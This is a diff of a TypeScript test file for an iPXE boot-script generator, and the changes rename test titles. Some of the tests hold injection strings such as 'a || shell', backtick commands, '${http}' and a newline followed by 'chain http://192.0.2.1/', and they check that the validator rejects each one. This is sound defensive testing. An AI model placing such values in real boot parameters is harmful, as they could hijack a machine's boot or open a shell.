@@ -23,11 +23,11 @@ test('the installed system of a partition image', () => {
   checkGolden('ipxe-boot.ipxe', script);
 });
 
-test('a machine that has its own boot loader is sent to its disk', () => {
+test('boots a machine with its own boot loader from its disk', () => {
   checkGolden('ipxe-local.ipxe', scriptOf({ boot: 'local', deploy: undefined, instance: undefined }));
 });
 
-test('what iPXE would read as a command or a setting is refused', () => {
+test('rejects what iPXE would interpret as a command or setting', () => {
   for (const value of ['a || shell', 'a\nshell', `\${http}`, '`x`', 'a&&b']) {
     const deploy = { kernel: '/k', ramdisk: '/r', parameters: { 'ingot.token': value } };
     assert.throws(() => scriptOf({ deploy }), { code: 'badRequest' });
@@ -35,12 +35,12 @@ test('what iPXE would read as a command or a setting is refused', () => {
   assert.throws(() => scriptOf({ boot: 'instance', instance: { ...instance, root: `\${root}` } }), { code: 'badRequest' });
 });
 
-test('a node needs a port that may boot', () => {
+test('requires a port with pxe_enabled', () => {
   ipxeBoot.validate(aBootNode);
   assert.throws(() => ipxeBoot.validate({ ...aBootNode, ports: [] }), { code: 'driverInfo', message: /pxe_enabled/ });
 });
 
-test('a client id that is none is found before the machine is touched', () => {
+test('rejects an invalid client id before the machine is changed', () => {
   const withId = (id: string | number) => ({
     ...aBootNode,
     ports: aBootNode.ports.map((port) => ({ ...port, extra: { 'client-id': id } })),
@@ -50,7 +50,7 @@ test('a client id that is none is found before the machine is touched', () => {
     assert.throws(() => ipxeBoot.validate(withId(id)), { code: 'driverInfo', message: /extra\/client-id of port 52:54/ });
 });
 
-test('parameters of a node that are more than words reach no boot file', () => {
+test('rejects unsafe kernel parameters of a node', () => {
   const attacks = [
     'a\nchain http://192.0.2.1/',
     'a && shell',
